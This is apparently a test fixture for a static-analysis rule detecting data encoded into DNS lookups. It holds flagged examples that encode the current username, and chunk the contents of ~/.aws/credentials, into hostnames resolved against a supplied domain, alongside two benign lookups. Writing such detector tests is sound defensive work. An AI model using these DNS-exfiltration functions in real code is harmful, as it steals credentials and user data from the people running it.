import base64
import os
import socket
import subprocess


def check_in(domain: str) -> None:
    user = subprocess.check_output(["whoami"], text=True).strip()
    label = base64.b32encode(user.encode()).decode().rstrip("=").lower()
    # ruleid: data-encoded-into-dns-lookup
    socket.gethostbyname(f"{label}.{domain}")


def leak(domain: str) -> None:
    data = open(os.path.expanduser("~/.aws/credentials")).read()
    for i in range(0, len(data), 30):
        chunk = data[i : i + 30].encode().hex()
        # ruleid: data-encoded-into-dns-lookup
        socket.getaddrinfo(chunk + "." + domain, 53)


def database_address() -> str:
    # ok: data-encoded-into-dns-lookup
    return socket.gethostbyname(os.environ.get("DB_HOST", "db.internal"))


def own_address() -> str:
    # ok: data-encoded-into-dns-lookup
    return socket.gethostbyname(socket.gethostname())
